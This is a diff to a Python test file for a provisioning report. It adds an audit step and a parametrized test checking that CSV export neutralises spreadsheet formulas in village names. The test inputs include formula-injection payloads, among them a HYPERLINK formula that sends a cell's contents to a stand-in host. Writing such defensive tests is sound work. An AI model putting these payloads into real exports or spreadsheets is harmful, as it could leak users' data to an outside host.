@@ -3,13 +3,19 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
+from typing import ClassVar
+
+import pytest
 
 from firmware.sim import demo_world, resident_of
-from provisioning.collector import CollectedRecord, CollectorDB
-from provisioning.report import OVERALL, Row, build_report, to_csv, to_json
+from provisioning.collector import CollectorDB
+from provisioning.collector_audit import CollectedRecord, audit_database
+from provisioning.report import FORMULA_STARTS, OVERALL, Row, build_report, to_csv, to_json
+from storage.keys import Authority
 
 
 def test_share_is_worklist_residents_recorded() -> None:
@@ -20,8 +26,9 @@ def test_share_is_worklist_residents_recorded() -> None:
 
 def test_an_empty_database_reports_every_resident_not_yet_recorded(tmp_path: Path) -> None:
     worklist = tuple(resident_of(person) for person in demo_world(1).residents)
+    authority = Authority.init(tmp_path / "authority", name="t")
     with CollectorDB(tmp_path / "c.db") as db:
-        rows = build_report(db, worklist)
+        rows = build_report(audit_database(db, authority.public).require_ok(), worklist)
     overall = rows[-1]
     assert (overall.on_worklist, overall.recorded, overall.not_recorded) == (60, 0, 60)
     villages = [row for row in rows if row.scope == "village"]
@@ -36,21 +43,41 @@ class Reflashed:
 
     old, new = b"old-cert-digest", b"new-cert-digest"
 
-    def collected(self) -> list[CollectedRecord]:
-        return [
-            CollectedRecord(self.old, "K1", 1, "SWT-1", False, 0, None, True),
-            CollectedRecord(self.new, "K1", 1, "SWT-2", False, 0, None, False),
-            CollectedRecord(self.new, "K1", 2, None, False, 0, 1, False),
-            CollectedRecord(self.new, "K1", 3, "SWT-3", False, 1, None, False),
-        ]
-
-    def printed_seqs(self) -> dict[bytes, set[int]]:
-        return {self.old: {1}, self.new: set()}
+    printed: ClassVar[dict[bytes, set[int]]] = {old: {1}, new: set()}
+    records: ClassVar[list[CollectedRecord]] = [
+        CollectedRecord(old, "K1", 1, "SWT-1", False, 0, None, True),
+        CollectedRecord(new, "K1", 1, "SWT-2", False, 0, None, False),
+        CollectedRecord(new, "K1", 2, None, False, 0, 1, False),
+        CollectedRecord(new, "K1", 3, "SWT-3", False, 1, None, False),
+    ]
 
 
 def test_voids_and_cards_count_within_their_own_chain() -> None:
     """The new chain's record 2 voids its own record 1, not the old chain's record 1."""
-    rows = {row.name: row for row in build_report(Reflashed())}  # type: ignore[arg-type]
+    rows = {row.name: row for row in build_report(Reflashed())}
     kit = rows["K1"]
     assert (kit.recorded, kit.printed, kit.exceptions) == (2, 1, 1), "old 1 and new 3 count"
     assert rows[OVERALL].recorded == 2
+
+
+@pytest.mark.parametrize(
+    "village",
+    ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"],
+)
+def test_a_village_name_never_becomes_a_spreadsheet_formula(village: str) -> None:
+    residents = tuple(
+        dataclasses.replace(resident_of(person), village=village)
+        for person in demo_world(1).residents[:3]
+    )
+    rows = build_report(Reflashed(), residents)
+    parsed = list(csv.reader(io.StringIO(to_csv(rows), newline="")))
+    names = [cells[1] for cells in parsed if cells[0] == "village"]
+    assert "'" + village in names, "the cell is text that shows what the village sheet said"
+    assert not any(cell.startswith(FORMULA_STARTS) for cells in parsed[1:] for cell in cells)
+    overall = next(cells for cells in parsed if cells[0] == "overall")
+    assert overall[2] == "3", "numbers stay numbers"
+
+
+def test_the_csv_of_a_report_without_worklist_has_no_dash_cells() -> None:
+    parsed = list(csv.DictReader(io.StringIO(to_csv(build_report(Reflashed())))))
+    assert parsed and all(row["share_text"] == "" for row in parsed)
